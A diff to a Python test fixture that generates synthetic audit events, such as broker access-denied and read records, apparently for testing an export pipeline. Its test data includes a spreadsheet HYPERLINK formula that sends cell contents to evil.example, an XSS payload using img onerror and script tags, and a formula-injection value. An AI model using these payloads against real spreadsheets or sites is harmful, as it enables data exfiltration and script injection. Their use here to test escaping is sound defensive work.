@@ -5,6 +5,7 @@
 import random
 from collections.abc import Iterator
 from datetime import UTC, datetime
+from enum import StrEnum
 
 from pipeline.audit.events import EventType, timestamp
 from tests.exporting import Told
@@ -14,6 +15,13 @@ DAY, HOUR = 86_400_000, 3_600_000
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1)'
 SCRIPT = '"><img src=http://evil.example/x onerror=document.title="owned"><script>document.title="owned"</script>'
 PEOPLE = ("ana@pay.example", "carla@pay.example")
+
+
+class Access(StrEnum):
+    """As the brokers' own log has them."""
+
+    READ = "access.read"
+    DENIED = "access.denied"
 
 
 def lane(number: int, days: int = 30, a_day: int = 40) -> Iterator[Told]:
@@ -157,5 +165,28 @@ def _life(number: int) -> Iterator[Told]:
         EventType.IDENTITY_DENIED,
         START + 9 * DAY,
         {"actor": {"person": "ops@pay.example"}, "reason": "\t=1+1", "denied": {"principal": "refunds"}},
+    )
+    for n, principal in enumerate(("ledger", SCRIPT)):
+        access = {"node": "1", "operation": "READ", "request": "FETCH", "count": 20 - n}
+        yield (
+            Access.DENIED,
+            START + 11 * DAY + n,
+            {
+                "actor": {"principal": principal, "host": "10.0.0.7"},
+                "outcome": "denied",
+                "resource": {"topic": "quarantine.payments.checkout"},
+                "access": access,
+            },
+        )
+    yield (
+        Access.READ,
+        START + 12 * DAY,
+        {
+            "actor": {"principal": "admin", "host": "10.0.0.7"},
+            "outcome": "allowed",
+            "resource": {"topic": "clean.payments", "holds": "clean"},
+            "access": access,
+            "finding": "not-by-policy",
+        },
     )
     yield EventType.LANE_CLOSED, START + 31 * DAY, worker
